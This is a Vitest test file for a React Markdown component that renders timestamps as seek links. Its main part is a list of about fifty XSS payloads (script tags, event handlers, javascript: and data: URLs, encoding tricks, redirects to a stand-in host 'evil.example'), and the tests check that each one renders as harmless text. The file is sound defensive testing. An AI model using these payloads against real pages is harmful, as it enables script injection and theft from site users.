import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

const times = {
  endSeconds: 60,
  hrefAt: (seconds: number) => `/sessions/talk?t=${seconds}`,
  onSeek: () => {},
};
const html = (text: string): string => renderToStaticMarkup(<Markdown text={text} times={times} />);

test('what is written becomes elements, and a time a link to its second', () => {
  const written = html('# A\n- **b** at 0:12\n\n> `c`');
  expect(written).toContain('<h2>A</h2>');
  expect(written).toContain('<strong>b</strong> at <a href="/sessions/talk?t=12"');
  expect(written).toContain('<blockquote><p><code>c</code></p></blockquote>');
});

test('a time after the end of the recording is text, and so is each where there is no recording', () => {
  expect(html('at 1:01')).not.toContain('<a');
  expect(renderToStaticMarkup(<Markdown text="at 0:12" />)).not.toContain('<a');
});

/** Ways into a page that people have found (OWASP's filter evasion list, and what Markdown adds). */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<x onclick=alert(1)>x',
  '<form action="//evil.example"><input name=q>',
  '<object data="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;//evil.example">',
  '</div><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https://ok.example"onmouseover="alert(1))',
  '[x](https://ok.example/<script>alert(1)</script>)',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '![x](x"onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<https://ok.example"onmouseover=alert(1)>',
  'https://ok.example/"onmouseover="alert(1)',
  "https://ok.example/'onmouseover='alert(1)",
  '[x]: javascript:alert(1)\n[x]',
  '```"><script>alert(1)</script>\ncode\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <script>alert(1)</script>',
  '**<img src=x onerror=alert(1)>**',
  '[0:12](javascript:alert(1))',
  '0:12<script>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__ [x](__proto__)',
];

const tags = /<\/?([a-z0-9]+)((?:[^">]|"[^"]*")*)>/g;
const shown = [
  'div',
  'p',
  'a',
  'strong',
  'em',
  's',
  'code',
  'pre',
  'blockquote',
  'ul',
  'ol',
  'li',
  'hr',
  'h2',
];
const attributes = new Set(['href', 'class', 'dir', 'rel', 'title', 'start']);

test.each(attacks)('nothing of %j is more than text', (attack) => {
  for (const text of [
    attack,
    `- ${attack}`,
    `> ${attack}`,
    `**${attack}**`,
    `[${attack}](https://ok.example)`,
  ]) {
    const written = html(text);
    for (const [, name = '', rest = ''] of written.matchAll(tags)) {
      expect(shown).toContain(name);
      for (const [, attribute = '', value = ''] of rest.matchAll(/([\w:-]+)="([^"]*)"/g)) {
        expect(attributes).toContain(attribute);
        if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|\/sessions\/talk\?t=\d+$)/);
      }
    }
    // Whatever is left when our own tags are gone is text: no angle bracket begins a tag in it.
    expect(written.replaceAll(tags, '')).not.toMatch(/[<>]/);
  }
});
